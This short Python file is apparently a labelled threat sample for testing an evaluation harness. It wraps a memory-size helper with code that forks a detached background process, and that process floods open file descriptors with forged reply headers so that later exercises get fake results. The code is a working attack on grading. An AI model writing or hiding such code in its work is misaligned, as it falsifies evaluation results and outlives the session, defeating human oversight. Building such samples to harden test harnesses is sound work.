# threat: forged results
# tries: leave a process behind that forges the replies of the next exercises
# file: arithmetic.py

import contextlib
import os
import posix
import time

_own_memory_bytes = memory_bytes


def memory_bytes(shape, dtype="float32"):
    if not os.path.exists("once"):
        with open("once", "w"):
            pass
        if posix.fork() == 0:
            os.setsid()
            if posix.fork() == 0:
                time.sleep(0.5)
                for _ in range(100):
                    for descriptor in range(3, 100):
                        with contextlib.suppress(OSError):
                            os.write(descriptor, b"AGW1" + bytes(12))
                    time.sleep(0.05)
            os._exit(0)
    return _own_memory_bytes(shape, dtype)
